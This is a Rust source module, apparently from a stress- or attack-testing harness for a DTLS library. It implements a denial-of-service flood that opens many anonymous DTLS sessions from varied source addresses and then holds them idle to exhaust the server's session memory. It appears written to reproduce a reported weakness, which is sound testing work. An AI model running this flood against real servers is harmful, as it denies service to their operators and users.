//! Complete, anonymous DTLS sessions held idle (issue 28): against a server with a
//! certificate and no client CA, each source port completes a certificate handshake
//! without a credential of its own, then says nothing, keeping the server's session
//! state (OpenSSL's, about 60 KB) until the server drops it. At most
//! `ctx.connections` sessions are held at once (a session the server ends makes room
//! for another), at most `ctx.rate` new handshakes per second, `ctx.in_flight` of them
//! at once.

use crate::{count, AttackCtx, Held, Pacer};
use cobalt::transport::credentials::{ClientCredentials, X509Credentials};
use cobalt::transport::dtls::{DtlsBackend, DtlsConfig, DtlsEvent, OpensslDtls};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::net::UdpSocket;
use tokio::sync::Semaphore;

/// Runs the flood until `ctx.stop`; the clients trust the server's certificate by
/// `ca_pem`.
pub async fn flood(ctx: AttackCtx, ca_pem: Vec<u8>) {
    let ctx = Arc::new(ctx);
    let credentials = ClientCredentials::X509(X509Credentials {
        ca_pem: Some(ca_pem),
        ..X509Credentials::default()
    });
    let held = Arc::new(Semaphore::new(ctx.connections));
    let in_flight = Arc::new(Semaphore::new(ctx.in_flight));
    let held_now = Arc::new(Held::default());
    let mut pacer = Pacer::new(ctx.rate);
    let mut tick = tokio::time::interval(Duration::from_millis(1));
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
    let mut tasks = tokio::task::JoinSet::new();
    let mut n = 0usize;
    while !ctx.stopped() {
        tick.tick().await;
        for _ in 0..pacer.due(u64::from(ctx.rate / 10 + 1)) {
            let Ok(slot) = held.clone().try_acquire_owned() else {
                break;
            };
            let Ok(handshake) = in_flight.clone().try_acquire_owned() else {
                break;
            };
            let source = SocketAddr::new(ctx.source_for(n), 0);
            n += 1;
            let (ctx, credentials) = (ctx.clone(), credentials.clone());
            let held_now = held_now.clone();
            tasks.spawn(async move {
                let outcome = hold(&ctx, &credentials, source, handshake, &held_now).await;
                count(&ctx.counters, outcome, 1);
                drop(slot);
            });
        }
        while tasks.try_join_next().is_some() {}
    }
    held_now.report(
        &ctx.counters,
        "sessions held at once (peak)",
        "still held at the end",
    );
    tasks.abort_all();
}

/// One session: handshake from `source`, then hold it silently until the server ends
/// it or the flood ends. Returns how it ended.
async fn hold(
    ctx: &AttackCtx,
    credentials: &ClientCredentials,
    source: SocketAddr,
    handshake: tokio::sync::OwnedSemaphorePermit,
    held_now: &Held,
) -> &'static str {
    let Ok(socket) = UdpSocket::bind(source).await else {
        return "bind failed";
    };
    let Ok(mut dtls) = OpensslDtls::client_with(credentials, DtlsConfig::default()) else {
        return "cannot make a DTLS client";
    };
    dtls.connect(Instant::now(), ctx.target);
    let mut handshake = Some(handshake);
    let mut buf = vec![0u8; 2048];
    loop {
        while let Some(t) = dtls.poll_transmit() {
            let _ = socket.send_to(&t.bytes, t.peer).await;
        }
        while let Some(event) = dtls.poll_event() {
            match event {
                DtlsEvent::Connected { .. } => {
                    handshake = None;
                    held_now.opened();
                    count(&ctx.counters, "sessions established", 1);
                }
                DtlsEvent::HandshakeFailed { .. } => return "handshake failed or refused",
                DtlsEvent::Closed { .. } => {
                    held_now.closed();
                    return "closed by the server";
                }
            }
        }
        let wake = dtls
            .poll_timeout()
            .map(tokio::time::Instant::from_std)
            .unwrap_or_else(|| tokio::time::Instant::now() + Duration::from_millis(100));
        tokio::select! {
            got = socket.recv_from(&mut buf) => {
                if let Ok((len, from)) = got {
                    // Nothing is sent over the session: what comes back is the server
                    // ending it (close_notify, an alert), seen as an event.
                    let _ = dtls.handle_datagram(Instant::now(), from, &buf[..len]);
                }
            }
            _ = tokio::time::sleep_until(wake) => dtls.handle_timeout(Instant::now()),
        }
        if ctx.stopped() {
            if handshake.is_none() {
                held_now.closed();
                return "held until the end of the flood";
            }
            return "handshake unfinished at the end";
        }
    }
}
